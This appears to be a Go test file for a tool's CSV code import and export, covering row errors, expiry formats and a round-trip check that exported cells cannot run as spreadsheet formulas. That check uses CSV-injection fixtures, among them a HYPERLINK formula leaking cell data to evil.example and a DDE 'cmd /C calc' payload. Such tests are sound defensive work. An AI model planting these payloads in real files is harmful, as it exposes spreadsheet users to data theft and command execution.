package admin_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/acv/acv/api/contract"
	"github.com/acv/acv/internal/admin"
	"github.com/acv/acv/internal/safecsv"
)

// What `acv codes export` writes, `acv codes import` reads: header row, the code and
// expires_at columns found by name, the others ignored.
func TestImportReadsWhatExportWrites(t *testing.T) {
	a, _, pid := newAdmin(t)
	ctx := context.Background()
	exp := int64(1900000000)
	if _, err := a.Store.InsertCodes(ctx, pid, []contract.NewCode{{Code: "EXP-A", ExpiresAt: &exp}, {Code: "EXP-B"}}); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if _, err := a.ExportCSV(ctx, pid, time.Now().Unix(), &out); err != nil {
		t.Fatal(err)
	}
	other, err := a.CreateProject(ctx, contract.NewProject{Name: "other"})
	if err != nil {
		t.Fatal(err)
	}
	res, err := a.ImportCSV(ctx, other.ID, bytes.NewReader(out.Bytes()), contract.ImportOptions{})
	if err != nil || res.Read != 2 || res.Inserted != 2 {
		t.Fatalf("import of an export: %+v, %v\n%s", res, err, out.String())
	}
	row, err := a.Store.CodeByValue(ctx, other.ID, "EXP-A")
	if err != nil || row.ExpiresAt == nil || *row.ExpiresAt != exp {
		t.Fatalf("EXP-A: %+v, %v", row, err)
	}
	// Again: every code is already present.
	if res, err = a.ImportCSV(ctx, other.ID, bytes.NewReader(out.Bytes()), contract.ImportOptions{}); err != nil || res.Existing != 2 || res.Inserted != 0 {
		t.Fatalf("second import: %+v, %v", res, err)
	}
}

func TestImportAcceptsRFC3339AndUnixExpiry(t *testing.T) {
	a, _, pid := newAdmin(t)
	ctx := context.Background()
	in := "R1,2030-01-02T03:04:05Z\nR2,1900000000\nR3,\n"
	if res, err := a.ImportCSV(ctx, pid, strings.NewReader(in), contract.ImportOptions{}); err != nil || res.Inserted != 3 {
		t.Fatalf("import %+v, %v", res, err)
	}
	want := map[string]*int64{"R1": ptr(time.Date(2030, 1, 2, 3, 4, 5, 0, time.UTC).Unix()), "R2": ptr(int64(1900000000)), "R3": nil}
	for v, w := range want {
		row, err := a.Store.CodeByValue(ctx, pid, v)
		if err != nil || (w == nil) != (row.ExpiresAt == nil) || w != nil && *w != *row.ExpiresAt {
			t.Errorf("%s: %+v, %v; want expiry %v", v, row, err, w)
		}
	}
}

// Bad rows are reported, each with its line, and skipped; the good rows around them are
// imported. A dry run reports the same and writes nothing.
func TestImportReportsEveryBadRowAndImportsTheGoodOnes(t *testing.T) {
	a, _, pid := newAdmin(t)
	ctx := context.Background()
	if _, err := a.Store.InsertCodes(ctx, pid, []contract.NewCode{{Code: "K0"}}); err != nil {
		t.Fatal(err)
	}
	in := "code,expires_at\nK1,\nK2,1900000000\nK3,next tuesday\nK4,\nK1,\nK0,\nBAD\x01,\n\"K5\"x,\nK6,\n"
	want := []contract.RowError{
		{Line: 4, Value: "K3", Kind: admin.RowInvalid},
		{Line: 6, Value: "K1", Kind: admin.RowDuplicate, Reason: "repeats line 2"},
		{Line: 7, Value: "K0", Kind: admin.RowExists, Reason: "the project already holds this code"},
		{Line: 8, Value: `"BAD\x01"`, Kind: admin.RowInvalid},
		{Line: 9, Kind: admin.RowInvalid},
	}
	check := func(t *testing.T, rep contract.ImportReport, dry bool) {
		t.Helper()
		if rep.DryRun != dry || rep.Read != 9 || rep.Inserted != 4 || rep.Invalid != 3 || rep.Duplicates != 1 || rep.Existing != 1 || rep.Truncated {
			t.Fatalf("report %+v", rep)
		}
		if len(rep.Errors) != len(want) {
			t.Fatalf("errors %+v, want %d", rep.Errors, len(want))
		}
		for i, w := range want {
			g := rep.Errors[i]
			if g.Line != w.Line || g.Value != w.Value || g.Kind != w.Kind || (w.Reason != "" && g.Reason != w.Reason) || g.Reason == "" {
				t.Errorf("error %d: %+v, want %+v", i, g, w)
			}
		}
	}
	t.Run("dry run", func(t *testing.T) {
		rep, err := a.ImportCSV(ctx, pid, strings.NewReader(in), contract.ImportOptions{DryRun: true})
		if err != nil {
			t.Fatal(err)
		}
		check(t, rep, true)
		for _, v := range []string{"K1", "K2", "K4", "K6"} {
			if _, err := a.Store.CodeByValue(ctx, pid, v); !errors.Is(err, contract.ErrNotFound) {
				t.Errorf("dry run wrote %s: %v", v, err)
			}
		}
	})
	t.Run("import", func(t *testing.T) {
		rep, err := a.ImportCSV(ctx, pid, strings.NewReader(in), contract.ImportOptions{})
		if err != nil {
			t.Fatal(err)
		}
		check(t, rep, false)
		for _, v := range []string{"K1", "K2", "K4", "K6"} {
			if _, err := a.Store.CodeByValue(ctx, pid, v); err != nil {
				t.Errorf("good row %s not imported: %v", v, err)
			}
		}
		if _, err := a.Store.CodeByValue(ctx, pid, "K3"); !errors.Is(err, contract.ErrNotFound) {
			t.Errorf("K3 with a bad expiry: %v, want not found", err)
		}
	})
	t.Run("again", func(t *testing.T) {
		rep, err := a.ImportCSV(ctx, pid, strings.NewReader(in), contract.ImportOptions{DryRun: true})
		if err != nil || rep.Inserted != 0 || rep.Existing != 5 {
			t.Fatalf("dry run after the import: %+v, %v", rep, err)
		}
	})
	missing := contract.NewID()
	if _, err := a.ImportCSV(ctx, missing, strings.NewReader("Z1\n"), contract.ImportOptions{DryRun: true}); err == nil || err.Error() != "project "+missing+" not found" {
		t.Errorf("import into a missing project: %v", err)
	}
}

// The list of problem rows is capped; the totals still count every row.
func TestImportCapsTheErrorList(t *testing.T) {
	a, _, pid := newAdmin(t)
	var b strings.Builder
	for i := range admin.MaxRowErrors + 50 {
		fmt.Fprintf(&b, "BAD\x01%d\n", i)
	}
	b.WriteString("GOOD\n")
	rep, err := a.ImportCSV(context.Background(), pid, strings.NewReader(b.String()), contract.ImportOptions{DryRun: true})
	if err != nil || rep.Invalid != admin.MaxRowErrors+50 || len(rep.Errors) != admin.MaxRowErrors || !rep.Truncated || rep.Inserted != 1 {
		t.Fatalf("report: invalid %d, listed %d, truncated %v, inserted %d, %v", rep.Invalid, len(rep.Errors), rep.Truncated, rep.Inserted, err)
	}
}

func ptr[T any](v T) *T { return &v }

// formulaStarts are the first characters a spreadsheet reads as a formula, or skips before
// looking for one.
const formulaStarts = "=+-@\t\r\n"

// TestExportImportRoundTripsFormulaCells: an export of codes and verified_by values that start
// like formulas has no cell a spreadsheet would run, and reads back (safecsv) and imports
// (acv codes import, the console's and the admin API's import) as exactly the values it held —
// values that themselves start with the apostrophe the export adds included.
func TestExportImportRoundTripsFormulaCells(t *testing.T) {
	a, _, pid := newAdmin(t)
	ctx := context.Background()
	// Code values the contract allows (printable, no control characters), each with the
	// verified_by its verification recorded. The API refuses a tab or CR in verified_by; the
	// store holds what it is given, and the export must be safe for it all the same.
	verifiedBy := map[string]string{
		"=1+2":                          `=HYPERLINK("http://evil.example/?"&A1,"open")`,
		`=HYPERLINK("http://evil","x")`: "+1+cmd|' /C calc'!A0",
		"+31-6-1234":                    "-2+3",
		"-5":                            "@SUM(A1:A9)",
		"@SUM(A1)":                      "\t=1+2",
		"'=quoted":                      "\r=1+2",
		"''=twice":                      "'=quoted",
		"'plain":                        "'",
		"'":                             "''",
		"a=b":                           "'plain",
		`c,"d"`:                         "till 4",
		"PLAIN-1":                       "",
	}
	var codes []contract.NewCode
	for v := range verifiedBy {
		codes = append(codes, contract.NewCode{Code: v})
	}
	rows, err := a.Store.InsertCodes(ctx, pid, codes)
	if err != nil || len(rows) != len(codes) {
		t.Fatalf("insert %d codes: %d, %v", len(codes), len(rows), err)
	}
	now := time.Now().Unix()
	for _, r := range rows {
		if by := verifiedBy[r.Code]; by != "" {
			if err := a.Store.ApplySnapshot(ctx, contract.CodeRecord{ID: r.ID, VerifiedAtMs: now * 1000, VerifiedBy: by, Version: 1}); err != nil {
				t.Fatalf("verify %q: %v", r.Code, err)
			}
		}
	}
	var out bytes.Buffer
	if n, err := a.ExportCSV(ctx, pid, now, &out); err != nil || n != len(codes) {
		t.Fatalf("export: %d, %v", n, err)
	}

	// What a spreadsheet parses: no cell starts a formula.
	raw, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil || len(raw) != len(codes)+1 {
		t.Fatalf("export has %d rows, %v:\n%s", len(raw), err, out.String())
	}
	for _, r := range raw {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
				t.Errorf("export cell %q starts a formula", cell)
			}
		}
	}

	// What the import's reader sees: the values themselves.
	rd := safecsv.NewReader(bytes.NewReader(out.Bytes()))
	if h, err := rd.Read(); err != nil || h[1] != "code" || h[6] != "verified_by" {
		t.Fatalf("header %q, %v", h, err)
	}
	seen := 0
	for {
		r, err := rd.Read()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		by, ok := verifiedBy[r[1]]
		if !ok || r[6] != by {
			t.Errorf("read back code %q verified_by %q; want one of the exported codes and %q", r[1], r[6], by)
		}
		seen++
	}
	if seen != len(codes) {
		t.Errorf("read back %d rows, want %d", seen, len(codes))
	}

	// What the import creates: the same code values, nothing else.
	other, err := a.CreateProject(ctx, contract.NewProject{Name: "copy"})
	if err != nil {
		t.Fatal(err)
	}
	rep, err := a.ImportCSV(ctx, other.ID, bytes.NewReader(out.Bytes()), contract.ImportOptions{})
	if err != nil || rep.Read != len(codes) || rep.Inserted != len(codes) {
		t.Fatalf("import of the export: %+v, %v", rep, err)
	}
	for v := range verifiedBy {
		if _, err := a.Store.CodeByValue(ctx, other.ID, v); err != nil {
			t.Errorf("code %q not imported as itself: %v", v, err)
		}
	}
	var again bytes.Buffer
	if _, err := a.ExportCSV(ctx, other.ID, now, &again); err != nil {
		t.Fatal(err)
	}
	if got := codeColumn(t, again.Bytes()); !slices.Equal(got, codeColumn(t, out.Bytes())) {
		t.Errorf("codes after export → import → export: %q, want %q", got, codeColumn(t, out.Bytes()))
	}
}

// codeColumn is the sorted code cells of an export, as it is written (escaped).
func codeColumn(t *testing.T, export []byte) []string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(export)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("export: %d rows, %v", len(recs), err)
	}
	var vs []string
	for _, r := range recs[1:] {
		vs = append(vs, r[1])
	}
	slices.Sort(vs)
	return vs
}
